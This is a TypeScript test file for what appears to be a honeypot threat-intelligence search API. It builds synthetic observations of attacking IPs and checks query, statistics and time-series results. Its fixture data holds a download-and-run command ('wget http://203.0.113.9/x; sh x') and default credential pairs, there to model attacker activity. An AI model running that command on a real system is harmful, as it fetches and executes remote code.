import { afterAll, beforeAll, expect, test } from "vitest";
import { z } from "zod";
import { addressOf, observation } from "../../support/builders/observation.ts";
import { seeded } from "../../support/builders/random.ts";
import { createWorld, type World } from "../../support/worlds/world.ts";

const HOUR = 3_600_000;
const now = Date.now();

const NAMES = ["root", "Admin", "", "müller"];
const SECRETS = ["admin", "Pass*1", "", "a b"];
const COMMANDS = ["uname -a", "cat /proc/cpuinfo", "wget http://203.0.113.9/x; sh x", "UNAME -A", ""];
const URLS = ["http://203.0.113.9/x", "ftp://Example.org/y"];
const DIGESTS = ["0a".repeat(32), "1b".repeat(32)];

type Seen = {
  readonly ip: string;
  readonly at: number;
  readonly credentials: readonly { readonly username: string; readonly password: string }[];
  readonly commands: readonly string[];
  readonly urls: readonly string[];
  readonly payload_sha256: readonly string[];
};

const random = seeded(7);
const draw = <T>(values: readonly T[], share = 0.2) => values.filter(() => random.chance(share));
const seen: readonly Seen[] = Array.from({ length: 300 }, (_, index) => ({
  ip: addressOf(index % 90),
  at: now - random.int(1, 47) * HOUR,
  credentials: draw(
    NAMES.flatMap((username) => SECRETS.map((password) => ({ username, password }))),
    0.04,
  ),
  commands: draw(COMMANDS),
  urls: draw(URLS),
  payload_sha256: draw(DIGESTS),
}));

let world: World;
beforeAll(async () => {
  world = await createWorld(() => now);
  const sent = seen.map(({ ip, at, ...members }) => observation(ip, at, { ...members, transport: "tcp" }));
  expect(await world.store(sent)).toMatchObject({ accepted: sent.length });
});
afterAll(() => world.close());

/** The values of each field in an observation, in lower case; without empty ones. */
const VALUES: Readonly<Record<string, (sighting: Seen) => readonly string[]>> = {
  username: ({ credentials }) => credentials.map(({ username }) => username),
  password: ({ credentials }) => credentials.map(({ password }) => password),
  credential: ({ credentials }) =>
    credentials.map(({ username, password }) => (username === "" && password === "" ? "" : `${username}/${password}`)),
  command: ({ commands }) => commands,
  url: ({ urls }) => urls,
  sha256: ({ payload_sha256 }) => payload_sha256,
};
const valuesOf = (field: string, sighting: Seen) =>
  (VALUES[field]?.(sighting) ?? []).filter((text) => text !== "").map((text) => text.toLowerCase());

/** The addresses with an observation whose values match. */
const having = (field: string, isMeant: (value: string) => boolean, of = seen) =>
  new Set(of.filter((sighting) => valuesOf(field, sighting).some(isMeant)).map(({ ip }) => ip));
const all = new Set(seen.map(({ ip }) => ip));
const without = (others: ReadonlySet<string>) => new Set([...all].filter((ip) => !others.has(ip)));

const listSchema = z.object({ ips: z.array(z.string()) });

async function read<Schema extends z.ZodType>(schema: Schema, path: string, parameters: Record<string, string>) {
  const { status, body } = await world.get(`/v3/gnql${path}?${new URLSearchParams(parameters)}`);
  expect(status, JSON.stringify(body)).toBe(200);
  return schema.parse(body);
}

test.each<[query: string, expected: ReadonlySet<string>]>([
  ['command:"uname -a"', having("command", (text) => text === "uname -a")],
  ["command:cat*", having("command", (text) => text.startsWith("cat"))],
  ["command:*203.0.113.9*", having("command", (text) => text.includes("203.0.113.9"))],
  ["username:ROOT", having("username", (text) => text === "root")],
  ["username:M?LLER", having("username", (text) => text === "müller")],
  ['password:"pass*1"', having("password", (text) => text === "pass*1")],
  ["credential:root/admin", having("credential", (text) => text === "root/admin")],
  ["credential:admin/*", having("credential", (text) => text.startsWith("admin/"))],
  ["credential:*", having("credential", () => true)],
  ["NOT password:*", without(having("password", () => true))],
  ["url:http*", having("url", (text) => text.startsWith("http"))],
  [`sha256:${DIGESTS[0]?.toUpperCase()}`, having("sha256", (text) => text === DIGESTS[0])],
  [
    `url:"ftp://example.org/y" -command:cat*`,
    new Set(
      [...having("url", (text) => text === "ftp://example.org/y")].filter((ip) =>
        without(having("command", (text) => text.startsWith("cat"))).has(ip),
      ),
    ),
  ],
])("%s finds the addresses that brute force finds", async (query, expected) => {
  expect(expected.size).toBeGreaterThan(0);
  expect(expected.size).toBeLessThan(all.size);
  expect(new Set((await read(listSchema, "/ips", { query })).ips)).toEqual(expected);
});

test("the statistics of a search list what its addresses typed, fetched and left", async () => {
  const query = "command:cat*";
  const matching = having("command", (text) => text.startsWith("cat"));
  const lists = { usernames: "username", passwords: "password", credentials: "credential", commands: "command" };
  const expected = Object.entries({ ...lists, urls: "url", sha256: "sha256" }).map(([list, field]) => {
    const of = seen.filter(({ ip }) => matching.has(ip));
    const texts = [...new Set(of.flatMap((sighting) => valuesOf(field, sighting)))];
    const counts = texts.map((value) => ({ value, count: having(field, (text) => text === value, of).size }));
    const bytes = (text: string) => Buffer.from(text);
    return [list, counts.sort((a, b) => b.count - a.count || bytes(a.value).compare(bytes(b.value)))];
  });
  const schema = z.object({ values: z.record(z.string(), z.unknown()) });
  const { values } = await read(schema, "/values", { query, count: "100" });
  expect(values).toMatchObject(Object.fromEntries(expected));
});

test("over time, a condition on a command is about the observations of each hour", async () => {
  const schema = z.object({ data: z.array(z.object({ date: z.string(), count: z.int() })) });
  const end = Math.floor(now / HOUR) * HOUR;
  const parameters = {
    start: new Date(end - 40 * HOUR).toISOString(),
    end: new Date(end).toISOString(),
    interval: "hour",
  };
  for (const [query, field, isMeant] of [
    ['command:"UNAME -a"', "command", (text: string) => text === "uname -a"],
    ["credential:*/admin", "credential", (text: string) => text.endsWith("/admin")],
  ] as const) {
    const { data } = await read(schema, "/timeseries/stats", { query, ...parameters });
    const expected = data.map((_, hour) => {
      const from = end - (40 - hour) * HOUR;
      return having(
        field,
        isMeant,
        seen.filter(({ at }) => at >= from && at < from + HOUR),
      ).size;
    });
    expect(data.map(({ count }) => count)).toEqual(expected);
    expect(Math.max(...expected)).toBeGreaterThan(0);
  }
});
